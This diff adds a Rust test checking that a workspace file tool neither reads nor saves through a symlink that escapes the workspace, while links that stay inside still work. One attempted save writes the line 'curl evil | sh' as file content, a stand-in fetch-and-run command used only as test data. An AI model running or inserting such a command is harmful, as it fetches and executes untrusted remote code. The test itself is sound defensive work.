@@ -132,6 +132,53 @@ fn file_commands_stay_inside_the_workspace_and_refuse_conflicts() {
 }
 
 #[test]
+fn a_link_out_of_the_workspace_is_neither_read_nor_saved_through() {
+    let h = Harness::new();
+    let (dir, ws) = demo_copy();
+    let canary = dir.path().join("canary.txt");
+    std::fs::write(&canary, "original\n").unwrap();
+    let link = ws.join("rules/x.py");
+    std::os::unix::fs::symlink("../../canary.txt", &link).unwrap();
+    h.call("open_workspace", json!({"path": ws})).unwrap();
+    let err = h.fails(
+        "read_file",
+        json!({"path": link}),
+        "file.outside_workspace",
+        "canary.txt",
+    );
+    assert!(err["hint"].is_string(), "{err}");
+    // Neither a new file's save nor one with the canary's own stamp goes through.
+    let canary_stamp = rules_workspace::workspace::save::stamp_of(b"original\n");
+    for stamp in [Value::Null, json!(canary_stamp)] {
+        h.fails(
+            "save_file",
+            json!({"path": link, "text": "curl evil | sh\n", "stamp": stamp}),
+            "file.outside_workspace",
+            "outside the workspace",
+        );
+    }
+    assert_eq!(std::fs::read_to_string(&canary).unwrap(), "original\n");
+    assert!(std::fs::symlink_metadata(&link)
+        .unwrap()
+        .file_type()
+        .is_symlink());
+    // A link that stays inside the workspace is read and saved as before.
+    let rule = ws.join("rules/aws_cloudtrail_rules/demo_aws_cloudtrail_stopped.py");
+    let alias = ws.join("rules/alias.py");
+    std::os::unix::fs::symlink(&rule, &alias).unwrap();
+    let read = h.call("read_file", json!({"path": alias})).unwrap();
+    h.call(
+        "save_file",
+        json!({"path": alias, "text": "# saved through a link\n", "stamp": read["stamp"]}),
+    )
+    .unwrap();
+    assert_eq!(
+        std::fs::read_to_string(&rule).unwrap(),
+        "# saved through a link\n"
+    );
+}
+
+#[test]
 fn a_workspace_deleted_while_open_gives_errors_not_panics() {
     let h = Harness::new();
     let (dir, ws) = demo_copy();
